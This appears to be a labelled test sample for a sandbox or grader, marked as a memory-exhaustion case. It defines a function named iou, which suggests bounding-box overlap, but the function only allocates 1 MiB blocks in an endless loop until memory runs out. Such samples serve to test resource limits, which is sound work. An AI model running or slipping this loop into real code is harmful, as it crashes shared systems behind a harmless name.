# VERDICT: memory
# CLASS: exhaustion
# Takes memory by the mebibyte until there is none.
def iou(boxes_a, boxes_b):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 20))
